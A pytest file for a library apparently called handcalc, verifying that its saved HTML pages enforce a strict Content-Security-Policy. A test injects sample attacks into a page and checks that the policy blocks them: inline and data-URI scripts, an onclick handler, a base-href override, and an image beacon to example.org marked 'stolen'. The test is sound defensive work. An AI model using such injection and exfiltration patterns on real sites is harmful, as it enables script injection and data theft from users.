"""What runs in a saved page: its own scripts alone; nothing from outside, and nothing leaves it.

That pages work under their policy is shown by all other tests of pages, which report each violation.
"""

import base64
import hashlib
import re
import zlib

import pytest

import handcalc as hc

CALC = hc.examples.self_attention()
POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">')
SCRIPT = re.compile(r"<script([^>]*)>(.*?)</script>", re.DOTALL)
DATA = ('type="application/json"', 'type="text/plain"')  # which no browser runs


def large() -> hc.Calculation:
    """With the table of a vocabulary, whose page is an atlas."""
    return hc.Calculation((hc.Matrix([[1.5] * 1600] * 1600, "M") + 1).named("N"))


SAVED = {
    "a calculation": lambda: CALC,
    "an atlas": large,
    "a training": lambda: hc.train(hc.examples.backwards(), of=["W_Q"], steps=2),
}


def policy_of(text: str) -> dict[str, list[str]]:
    (found,) = POLICY.findall(text)
    return {part.split()[0]: part.split()[1:] for part in found.split(";")}


def sum_of(text: str) -> str:
    return f"'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'"


@pytest.mark.parametrize(
    "name", [pytest.param(name, marks=[pytest.mark.slow] * (name == "an atlas")) for name in SAVED]
)
def test_a_saved_page_runs_its_own_scripts_and_no_others(tmp_path, name):
    SAVED[name]().save_html(tmp_path / "page.html")
    text = (tmp_path / "page.html").read_text("utf-8")
    policy = policy_of(text)
    run = [inner for about, inner in SCRIPT.findall(text) if not any(kind in about for kind in DATA)]
    (packed,) = re.findall(r'<script type="text/plain" id="code">(.*?)</script>', text)
    run.append(zlib.decompress(base64.b64decode(packed)).decode())
    assert policy["script-src"] == [sum_of(script) for script in run]
    assert text.index("Content-Security-Policy") < min(text.index("<style"), text.index("<script"))
    nothing = ("default-src", "connect-src", "base-uri", "form-action")
    assert [policy[name] for name in nothing] == [["'none'"]] * len(nothing)
    assert policy["img-src"] == ["data:"]


INTRUDERS = """async () => {
  const blocked = [];
  document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
  const script = document.createElement("script");
  script.textContent = "globalThis.intruded = true";
  document.body.append(script);
  const far = document.createElement("script");
  far.src = "data:text/javascript,globalThis.intruded = true";
  document.body.append(far);
  const markup = "<p onclick='globalThis.intruded = true'>press</p><base href='https://example.org/'>";
  document.body.insertAdjacentHTML("beforeend", markup);
  document.body.lastElementChild.previousElementSibling.click();
  await fetch("data:text/plain,1").catch(() => {});
  new Image().src = "https://example.org/?stolen";
  await new Promise((done) => setTimeout(done, 50));
  return [blocked.sort(), globalThis.intruded ?? false, document.baseURI === location.href];
}"""


@pytest.mark.slow
def test_nothing_else_runs_in_a_page_and_nothing_leaves_it(open_page, pages):
    page = open_page(CALC)
    blocked, has_run, is_at_home = page.evaluate(INTRUDERS)
    assert blocked == [
        "base-uri",
        "connect-src",
        "img-src",
        "script-src-attr",
        "script-src-elem",
        "script-src-elem",
    ]
    assert (has_run, is_at_home) == (False, True)
    troubles = pages.troubles.copy()
    pages.troubles.clear()
    assert all("Content Security Policy" in trouble for trouble in troubles)  # and nothing was asked for
